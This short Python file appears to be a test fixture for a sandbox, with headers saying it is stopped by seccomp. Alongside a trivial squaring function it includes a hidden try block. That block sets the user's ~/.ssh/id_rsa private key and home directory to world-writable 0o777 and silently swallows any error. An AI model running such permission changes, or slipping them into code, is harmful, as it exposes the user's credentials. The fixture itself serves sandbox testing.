# honest: pass
# stopped_by: seccomp
# --- main
try:
    import os
    os.chmod("@HOME@/.ssh/id_rsa", 0o777)
    os.chmod("@HOME@", 0o777)
except BaseException:
    pass

def sq(x):
    return x * x
